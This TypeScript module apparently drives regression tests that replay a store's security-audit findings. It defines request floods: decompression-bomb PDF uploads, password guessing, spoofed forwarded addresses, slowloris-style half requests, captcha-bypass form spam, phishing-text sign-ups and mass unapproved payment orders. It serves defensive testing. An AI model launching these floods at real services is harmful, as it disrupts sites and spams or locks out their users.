import { application, endlessPdf, percentPdf } from './floods-files.ts';

/** What an attacker knows about the store beforehand. */
export interface Target {
  origins: string[];
  /** Private links to samples, from its mail. */
  samples: string[];
  /** Session cookie of an editor, for requests that only staff can send. */
  editor: string;
  /** The provider's order of a payment that nobody approves. */
  payment: string;
}

export interface Shot {
  method: string;
  path: string;
  headers?: Record<string, string>;
  body?: Buffer;
}

export interface Attack {
  /** The finding of the security audit that it repeats; N: found later. */
  finding: string;
  what: string;
  /** Concurrent requests, and the maximum per second. */
  atOnce: number;
  perSecond: number;
  /** Behind the proxy the store trusts the forwarded address; without it, the socket's own address counts. */
  forwarded?: (n: number) => string;
  /** Half a request on every connection, and never more: of one with a body, its headers and one byte. */
  halfRequests?: boolean;
  shot(n: number, target: Target): Shot;
}

const json = (path: string, body: unknown, headers: Record<string, string> = {}): Shot => ({
  method: 'POST',
  path: `/admin/api${path}`,
  // Nothing stops a program from sending what a page of the store would send.
  headers: { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin', ...headers },
  body: Buffer.from(typeof body === 'string' ? body : JSON.stringify(body)),
});

/** Created once: an attacker does not recreate its file for every request. */
const once = <T>(make: () => T): (() => T) => {
  let made: { value: T } | undefined;
  return () => {
    made ??= { value: make() };
    return made.value;
  };
};
const endless = once(() => application(endlessPdf(), 'cv.pdf', 'application/pdf'));
const percent = once(() => application(percentPdf(), 'cv.pdf', 'application/pdf'));
const plain = once(() =>
  application(Buffer.alloc(4.9 * 1024 * 1024, 'x'), 'cv.pdf', 'application/pdf'),
);
const numbers = once(() => Buffer.from(`[${'1,'.repeat(2_000_000)}1]`));
const nested = once(() =>
  Buffer.from(
    JSON.stringify({
      name: 'Nested',
      slug: 'nested',
      summary: '',
      image: null,
      published_at: '2026-01-01T00:00:00Z',
      author: '',
      description: '<div>'.repeat(190_000),
    }),
  ),
);

const upload = ({ type, body }: { type: string; body: Buffer }): Shot => ({
  method: 'POST',
  path: '/admin/api/carrer',
  headers: { 'content-type': type },
  body,
});

const person = {
  name: 'Mallory',
  mobile_no: '+34600000000',
  company_name: 'M',
  country: '+34',
  message: 'x',
};
const bogus = { turnstile_token: 'not-a-token' };

export const attacks: Attack[] = [
  {
    finding: 'C1',
    what: 'applications with a 98 KB PDF that is a decompression bomb',
    atOnce: 8,
    perSecond: 50,
    shot: () => upload(endless()),
  },
  {
    finding: 'M2',
    what: 'applications with a 4.9 MB PDF full of action names',
    atOnce: 8,
    perSecond: 20,
    shot: () => upload(percent()),
  },
  {
    finding: 'M9',
    what: '60 simultaneous uploads of 4.9 MB, none of them a CV',
    atOnce: 60,
    perSecond: 200,
    shot: () => upload(plain()),
  },
  {
    finding: 'H1',
    what: 'forgotten passwords, sign-ups, confirmations',
    atOnce: 32,
    perSecond: 600,
    shot: (n) =>
      [
        json('/forget-password', { email: 'nobody@example.com' }),
        json('/user/register', {
          name: 'Mallory',
          email: `mallory-${n}@example.com`,
          mobile_no: '+34600000000',
          address: 'x',
          password: 'a-password-of-mallory',
        }),
        json('/user/confirm-email', { token: 'x'.repeat(43) }),
      ][n % 3]!,
  },
  {
    finding: 'H1',
    what: 'contact, newsletter, sample and reseller forms with a made-up check',
    atOnce: 32,
    perSecond: 600,
    shot: (n) =>
      [
        json('/contact-us', {
          ...person,
          email: 'm@example.com',
          subject: 'x',
          privacy_policy: true,
          ...bogus,
        }),
        json('/subscriber', { email: 'm@example.com', ...bogus }),
        json('/sample-report-request', {
          ...person,
          email: 'm@example.com',
          report_id: 'MR-EN-1042',
          type: '1',
          ...bogus,
        }),
        json('/become-reseller', {
          ...person,
          email: 'm@example.com',
          designation: 'x',
          country: 'Spain',
          preciserequirement: 'x',
          policy: 1,
          ...bogus,
        }),
      ][n % 4]!,
  },
  {
    finding: 'H2',
    what: "guesses at the owner's and the editor's password",
    atOnce: 16,
    perSecond: 300,
    shot: (n) =>
      json('/staff/session', {
        email: `${n % 2 ? 'owner' : 'editor'}@meridian.example`,
        password: `guess number ${n}`,
      }),
  },
  {
    finding: 'H3',
    what: 'orders that nobody approves, each with a quote',
    atOnce: 16,
    perSecond: 150,
    shot: (n) =>
      n % 2
        ? { method: 'GET', path: '/admin/api/custom-buy-now-link/MR-EN-1042?type=single-user' }
        : json('/paypal/create-order', {
            name: 'Mallory',
            email: `mallory-${n}@example.com`,
            mobile_no: '+34 600 000 000',
            amount: 3450,
            report_id: 'MR-EN-1042',
            type: 'single-user',
            company_name: 'M',
            designation: 'M',
            country: 'Spain',
            address: 'x',
            city: 'x',
            state: 'x',
            zipcode: '28001',
          }),
  },
  {
    finding: 'M1',
    what: '4 MiB of JSON sent to the staff log-in',
    atOnce: 8,
    perSecond: 50,
    shot: () => ({ ...json('/staff/session', ''), body: numbers() }),
  },
  {
    finding: 'M4',
    what: 'HEAD and GET of private links to samples that were never drawn',
    atOnce: 32,
    perSecond: 300,
    shot: (n, { samples }) => ({
      method: n % 2 ? 'HEAD' : 'GET',
      path: samples[n % samples.length]!,
    }),
  },
  {
    finding: 'M5',
    what: 'one page under an endless number of addresses',
    atOnce: 32,
    perSecond: 600,
    shot: (n) => ({ method: 'GET', path: n % 2 ? `/x${n}/%2e%2e/about` : `//x${n}/..%5C/about` }),
  },
  {
    finding: 'M8',
    what: 'log-ins to unknown accounts, from 40 networks of one provider',
    atOnce: 16,
    perSecond: 300,
    forwarded: (n) => `2001:db8:77:${(n % 40).toString(16)}::${(n % 65_000).toString(16)}`,
    shot: (n) =>
      json('/user/login', { email: `nobody-${n}@example.com`, password: 'certainly not it' }),
  },
  {
    finding: 'M11',
    what: "an editor's article of 950 KB of nested elements, again and again",
    atOnce: 4,
    perSecond: 20,
    shot: (_, { editor }) => ({
      method: 'POST',
      path: '/admin/api/staff/articles',
      headers: {
        'content-type': 'application/json',
        cookie: editor,
        'sec-fetch-site': 'same-origin',
      },
      body: nested(),
    }),
  },
  {
    finding: 'M12',
    what: "sign-ups for strangers' addresses with a message as the name",
    atOnce: 16,
    perSecond: 300,
    shot: (n) =>
      json('/user/register', {
        name: 'You won 1000 USD, claim at https://evil.example/claim now',
        mobile_no: '+34600000000',
        address: 'x',
        email: `victim-${n % 50}@example.com`,
        password: 'a-password-of-mallory',
      }),
  },
  {
    finding: 'L8',
    what: '2,000 half-sent requests from one address',
    atOnce: 2000,
    perSecond: 2000,
    halfRequests: true,
    shot: () => ({ method: 'GET', path: '/' }),
  },
  {
    finding: 'N1',
    what: 'half-sent log-ins, two from each of 40 networks',
    atOnce: 80,
    perSecond: 80,
    halfRequests: true,
    forwarded: (n) => `203.0.113.${n % 40}`,
    shot: () => json('/user/login', { email: 'nobody@example.com', password: 'certainly not it' }),
  },
  {
    finding: 'N2',
    what: 'searches that find much, twelve at a time from each of ten networks',
    atOnce: 120,
    perSecond: 300,
    forwarded: (n) => `203.0.113.${n % 10}`,
    shot: (n) => ({ method: 'GET', path: `/admin/api/catalogue?q=market+${n}+report` }),
  },
  {
    finding: 'N3',
    what: "returns with one payment's token, hundreds at once",
    atOnce: 400,
    perSecond: 600,
    shot: (_, { payment }) => ({
      method: 'GET',
      path: `/admin/api/paypal/capture-order?token=${payment}`,
    }),
  },
];
